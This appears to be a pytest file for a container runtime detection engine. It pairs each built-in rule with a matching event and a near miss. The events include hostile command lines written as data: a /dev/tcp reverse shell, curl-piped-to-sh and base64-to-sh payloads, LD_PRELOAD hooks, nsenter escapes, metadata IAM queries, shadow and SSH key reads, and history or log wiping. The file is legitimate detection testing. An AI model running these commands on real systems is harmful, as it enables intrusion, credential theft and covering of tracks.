"""Every built-in rule: one event that must match it and a near miss that must not."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from tests.fixtures.rules_events import create, ev, read, run, write
from vigil.detect.rules import RuleEngine, builtin_rule_files, compile_files
from vigil.models import Event, Severity

COMPILED = compile_files(builtin_rule_files())
ENGINE = RuleEngine(COMPILED.rules)


def in_container_only(build: Callable[..., Event], *args: Any, **kw: Any) -> tuple[Event, Event]:
    """The event in a container, and as its near miss the same event on the host."""
    return build(*args, **kw), build(*args, host=True, **kw)


def writes_only(path: str, **kw: Any) -> tuple[Event, Event]:
    """A write of ``path``, and as its near miss a read of it."""
    return write(path, **kw), read(path, **kw)


# rule name → (an event it must match, a near miss it must not)
CASES: dict[str, tuple[Event, Event]] = {
    "Shell spawned by a server process": (
        run("/bin/sh -c id", parent="/usr/sbin/nginx"),
        run("/bin/sh -c id", parent="/usr/bin/make"),
    ),
    "Reverse shell command line": (
        run("/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        run("/bin/bash -c ls /dev/"),
    ),
    "Network connection from a shell": (
        ev("connect", exe="/bin/bash", ip="203.0.113.9", port=4444),
        ev("connect", exe="/usr/bin/curl", ip="203.0.113.9", port=4444),
    ),
    "Bind shell listening": (
        ev("listen", exe="/bin/nc", cmdline="nc -lp 4444", ip="0.0.0.0", port=4444),
        ev("listen", exe="/usr/sbin/nginx", ip="0.0.0.0", port=80),
    ),
    "Drifted executable run": (
        run("/app/implant", exe_on_writable_layer=True),
        run("/app/server"),
    ),
    "Execution from /dev/shm": (
        run("/dev/shm/x", exe_from_dev_shm=True),
        run("/usr/bin/shm-tool"),
    ),
    "Fileless execution from memfd": (
        run("/memfd:payload (deleted)", exe_from_memfd=True),
        run("/usr/bin/memfd-helper"),
    ),
    "Execution from a temporary directory": (run("/tmp/kit/run"), run("/opt/tmp/run")),
    "Decoded payload piped to a shell": (
        run("/bin/sh -c echo aWQK | base64 -d | sh"),
        run("/bin/sh -c echo aWQK | base64 -d > out.txt"),
    ),
    "Download piped to a shell": (
        run("/bin/sh -c curl -s http://x.example/i.sh | sh"),
        run("/bin/sh -c curl -s -o i.sh http://x.example/i.sh"),
    ),
    "LD_PRELOAD set on a command line": (
        run("/bin/sh -c LD_PRELOAD=/tmp/hook.so /bin/ls"),
        run("/bin/sh -c LD_LIBRARY_PATH=/opt/lib /bin/ls"),
    ),
    "Write to /etc/ld.so.preload": writes_only("/etc/ld.so.preload"),
    "Package manager run in a container": in_container_only(run, "apt-get install -y nmap"),
    "kubectl run in a container": (run("kubectl get secrets -A"), run("kubectl-proxy-helper")),
    "Container runtime client run in a container": (run("crictl ps"), run("critical-task")),
    "Namespace entry tool run in a container": (
        run("nsenter -t 1 -m -u -i -n sh"),
        run("nsenter -t 1 -m sh", host=True),
    ),
    "Network reconnaissance tool run": (run("nmap -sS 10.0.0.0/24"), run("nc 10.0.0.1 80")),
    "Network sniffing tool run": (run("tcpdump -i eth0"), run("tcptraceroute example.com")),
    "Packet socket opened in a container": in_container_only(
        ev, "packet_socket", exe="/usr/bin/arping"
    ),
    "Kubernetes API discovery from a container": (
        run("curl -k https://kubernetes.default.svc/api/v1/namespaces"),
        run("curl -k https://example.com/api/v2/x"),
    ),
    "Read of shadow password files": (
        read("/etc/shadow", exe="/bin/cat"),
        read("/etc/shadow", exe="/usr/sbin/unix_chkpwd"),
    ),
    "Read of private keys and credential files": (
        read("/root/.ssh/id_rsa", exe="/bin/cat"),
        read("/root/.ssh/id_rsa.pub", exe="/bin/cat"),
    ),
    "Service account token read": (
        read("/var/run/secrets/kubernetes.io/serviceaccount/token", exe="/bin/cat"),
        read("/var/run/secrets/kubernetes.io/serviceaccount/namespace", exe="/bin/cat"),
    ),
    "Cloud metadata service contacted": (
        ev("connect", ip="169.254.169.254", port=80),
        ev("connect", ip="169.254.169.253", port=80),
    ),
    "Cloud metadata queried by a command": (
        run("curl http://169.254.169.254/latest/meta-data/iam/"),
        run("curl http://169.254.1.1/"),
    ),
    "Symlink to a sensitive file": (
        ev("symlink", path="/etc/shadow", target="/tmp/s"),
        ev("symlink", path="/etc/hostname", target="/tmp/s"),
    ),
    "Setuid or setgid bit set": (
        ev("chmod", path="/tmp/sh", mode=0o4755),
        ev("chmod", path="/tmp/sh", mode=0o755),
    ),
    "Setuid to root by a non-root process": (
        ev("setuid", exe="/tmp/exploit", uid=1000, args={"uid": 0}),
        ev("setuid", exe="/usr/bin/sudo", uid=1000, args={"uid": 0}),
    ),
    "Setuid program run by a non-root user": (
        run("/tmp/rootsh", uid=1000, euid=0),
        run("/usr/bin/sudo id", uid=1000, euid=0),
    ),
    "Ptrace attach to another process": (
        ev("ptrace", exe="/usr/bin/gdb", args={"request": 16, "target_pid": 1}),
        ev("ptrace", exe="/usr/bin/gdb", args={"request": 0, "target_pid": 1}),
    ),
    "Mount in a container": in_container_only(
        ev, "mount", args={"source": "/dev/sda1", "target": "/mnt", "fstype": "ext4"}
    ),
    "Namespace change with unshare": in_container_only(ev, "unshare", args={"flags": 0x10000000}),
    "Namespace entry with setns": in_container_only(ev, "setns", args={"fd": 3}),
    "Cgroup release_agent written": writes_only("/sys/fs/cgroup/rdma/release_agent"),
    "Kernel module loaded": in_container_only(ev, "module_load", exe="/sbin/insmod"),
    "Kernel module tool run in a container": (run("insmod rootkit.ko"), run("lsmod")),
    "eBPF program loaded in a container": (
        ev("bpf", args={"cmd": 5}),
        ev("bpf", args={"cmd": 1}),
    ),
    "Container runtime socket opened": (
        write("/var/run/docker.sock"),
        write("/var/run/app.sock"),
    ),
    "Crypto miner run": (run("/opt/xmrig --threads 4"), run("/opt/xmlint")),
    "Stratum mining URL on a command line": (
        run("/opt/m -o stratum+tcp://pool.example:3333 -u wallet"),
        run("/opt/m -o tcp://pool.example:3333"),
    ),
    "Connection to a mining pool port": (
        ev("connect", ip="203.0.113.50", port=3333),
        ev("connect", ip="10.1.2.3", port=3333),
    ),
    "DNS lookup of a mining pool": (
        ev("dns", dns="xmr-eu1.nanopool.org", ip="10.96.0.10", port=53),
        ev("dns", dns="nanopool.org.example.com", ip="10.96.0.10", port=53),
    ),
    "Write below a binary directory": (
        create("/usr/bin/backdoor", exe="/bin/cp"),
        create("/usr/bin/curl", exe="/usr/bin/dpkg"),
    ),
    "Write below /etc": (
        write("/etc/nginx/nginx.conf", exe="/bin/sed"),
        write("/etc/nginx/nginx.conf", exe="/usr/bin/apt-get"),
    ),
    "Account files modified": writes_only("/etc/passwd", exe="/bin/sh"),
    "Executable bit set in a temporary directory": (
        ev("chmod", path="/tmp/kit", mode=0o755),
        ev("chmod", path="/tmp/kit", mode=0o644),
    ),
    "Log file deleted": (ev("unlink", path="/var/log/auth.log"), ev("unlink", path="/tmp/x.log")),
    "Log file truncated": (
        ev("open", path="/var/log/auth.log", op="truncate", flags=0o1001),
        ev("open", path="/var/log/auth.log", op="write", flags=0o2001),
    ),
    "Shell history tampered with": (
        ev("unlink", path="/root/.bash_history"),
        ev("unlink", path="/root/.bashrc"),
    ),
    "Shell history disabled or cleared": (
        run("/bin/bash -c unset HISTFILE; id"),
        run("/bin/bash -c echo $HISTFILE"),
    ),
    "Cron job written": writes_only("/etc/cron.d/job"),
    "SSH authorized_keys modified": writes_only("/root/.ssh/authorized_keys"),
    "Shell startup file modified": writes_only("/root/.bashrc"),
    "Systemd unit written": (
        create("/etc/systemd/system/evil.service"),
        create("/etc/systemd/system/evil.service", exe="/usr/bin/dpkg"),
    ),
}


def matched(event: Event) -> set[str]:
    return {rule.name for rule in ENGINE.match(event)}


def test_pack_compiles_cleanly_with_at_least_40_rules() -> None:
    assert COMPILED.errors == ()
    assert len(COMPILED.rules) >= 40


def test_every_builtin_rule_has_a_case() -> None:
    assert {r.name for r in COMPILED.rules} == set(CASES)


@pytest.mark.parametrize("rule", [r for r in COMPILED.rules], ids=lambda r: r.name)
def test_rule_has_severity_and_mitre_technique(rule: object) -> None:
    definition = rule.definition  # type: ignore[attr-defined]
    assert isinstance(definition.priority, Severity)
    assert any(t.startswith("T") and not t.startswith("TA") for t in definition.mitre)
    assert definition.desc


@pytest.mark.parametrize("name", sorted(CASES))
def test_rule_matches_its_event(name: str) -> None:
    hit, _ = CASES[name]
    assert name in matched(hit)


@pytest.mark.parametrize("name", sorted(CASES))
def test_rule_ignores_its_near_miss(name: str) -> None:
    _, miss = CASES[name]
    assert name not in matched(miss)


def test_output_fills_fields() -> None:
    (rule,) = [r for r in COMPILED.rules if r.name == "Shell spawned by a server process"]
    text = rule.output.format(run("/bin/sh -c id", parent="/usr/sbin/nginx"))
    assert "spawned by server nginx" in text and "cmd=sh -c id" in text
    assert "container=app-1 workload=shop/Deployment/app/app" in text
